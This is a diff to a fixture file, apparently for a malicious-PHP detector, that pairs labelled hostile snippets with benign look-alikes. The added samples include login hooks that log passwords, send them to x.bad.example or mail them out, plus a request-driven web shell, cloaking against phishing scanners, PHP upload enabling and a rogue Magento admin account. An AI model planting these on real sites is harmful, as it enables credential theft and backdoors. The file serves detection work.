@@ -96,6 +96,15 @@ export const MALICIOUS_SITES: Named = {
   'shop: an administrator': `<?php require 'app/Mage.php'; Mage::app('admin'); $u = Mage::getModel('admin/user')->setData(array('username' => 'sup', 'email' => 'a@bad.example', 'password' => 'pw1', 'is_active' => 1))->save(); $u->setRoleIds(array(1))->setRoleUserId($u->getUserId())->saveRelations();`,
   'shop: passwords of who administers it': `<?php $r = mysql_query("select username,password from " . $p . "admin_user where is_active=1"); while ($w = mysql_fetch_row($r)) echo implode(':', $w);`,
   'accounts: their hashes, in a line': `<?php require 'wp-load.php'; foreach ($wpdb->get_results("SELECT * FROM {$wpdb->users}") as $u) echo "$u->user_login|$u->user_pass";`,
+
+  'login: passwords into a file': `<?php add_action('wp_authenticate', function ($username, $password) { file_put_contents('/tmp/l', "$username:$password\n", FILE_APPEND); }, 10, 2);`,
+  'login: passwords to another host, by any name': `<?php add_action('wp_authenticate', 'keep', 10, 2); function keep($u, $p) { @file_get_contents('https://x.bad.example/?d=' . urlencode($u . ':' . $p)); }`,
+  'login: passwords by mail, once they are right': `<?php add_filter('wp_authenticate_user', function ($user, $given) { if (wp_check_password($given, $user->user_pass)) { wp_mail('a@bad.example', 'l', $user->user_login . ' ' . $given); } return $user; }, 10, 2);`,
+  'login: passwords of another system': `<?php $u = JRequest::getVar('username'); $p = JRequest::getVar('passwd'); $f = fopen(JPATH_BASE . '/media/x.gif', 'a'); fwrite($f, base64_encode("$u|$p") . "\n"); fclose($f);`,
+  'called: of a table, by the request': `<?php $t = ['a' => 'shell_${'exec'}', 'b' => 'phpinfo']; echo $t[${GET}['m']](${GET}['c']);`,
+  'called: with what a generator gives': `<?php function g() { yield ${GET}['c']; } foreach (g() as $c) ${COMMAND}($c);`,
+  'phishing: who watches out is refused': `<?php $bad = array('phishtank', 'netcraft', 'avast', 'kaspersky', 'crawler'); foreach ($bad as $b) { if (stripos(gethostbyaddr($_SERVER['REMOTE_ADDR']), $b) !== false) { header('HTTP/1.0 404 Not Found'); exit; } }`,
+  'upload: PHP among pictures': `<?php add_filter('upload_mimes', function ($m) { $m['php'] = 'text/x-php'; return $m; }); echo json_encode(wp_handle_upload($f, array('test_form' => false)));`,
 };
 
 /** What real programs do in the same words. */
@@ -155,6 +164,13 @@ export const CLEAN_SITES: Named = {
   'redirect: by WordPress, to who is paid': `<?php $r = json_decode(wp_remote_retrieve_body(wp_remote_post('https://api.bank.example/sessions', array('body' => $order)))); wp_redirect($r->url); exit;`,
   'shop: an account of a customer': `<?php $c = Mage::getModel('customer/customer')->setData(array('email' => $email, 'password' => $random))->save(); $c->saveRelations();`,
   'shop: a password is checked': `<?php function load($name) { $q = $this->db->prepare('select password from admin_user where username = ?'); $q->execute(array($name)); return $q->fetchColumn(); }`,
+
+  'login: how long a password may be': `<?php add_action('wp_authenticate', function ($username, $password) { if (strlen($password) > 4096) { error_log("Too long: $username"); wp_die('Too long'); } }, 10, 2);`,
+  'login: a password of another system, checked': `<?php $u = JRequest::getVar('username'); $p = JRequest::getVar('passwd'); if (!password_verify($p, $db->hash($u))) file_put_contents('failed.log', date('c') . "\n", FILE_APPEND);`,
+  'called: of a table of its own': `<?php $handlers = ['list' => 'handle_list', 'run' => 'handle_run']; $a = ${GET}['a']; if (isset($handlers[$a])) $handlers[$a]();`,
+  'called: lines that a generator gives': `<?php function rows($f) { $h = fopen($f, 'r'); while ($r = fgetcsv($h)) yield $r; } foreach (rows('a.csv') as $r) ${COMMAND}('uptime');`,
+  'list: programs against viruses': `<?php $names = array('kaspersky' => 'Kaspersky', 'avast' => 'Avast', 'bitdefender' => 'Bitdefender', 'mcafee' => 'McAfee'); foreach ($names as $k => $n) echo "<option value='$k'>$n</option>";`,
+  'upload: drawings among pictures': `<?php add_filter('upload_mimes', function ($m) { $m['svg'] = 'image/svg+xml'; unset($m['php']); return $m; });`,
 
   'mail: a password to who asks for it': `<?php mail(${POST}['email'], 'Your password', 'You can set a new password on our page.');`,
   'mail: a new password to who asks for it': `<?php mail(${POST}['email'], 'Your password', 'Your new password is ' . substr(md5(rand()), 0, 8)); echo 'Sent';`,
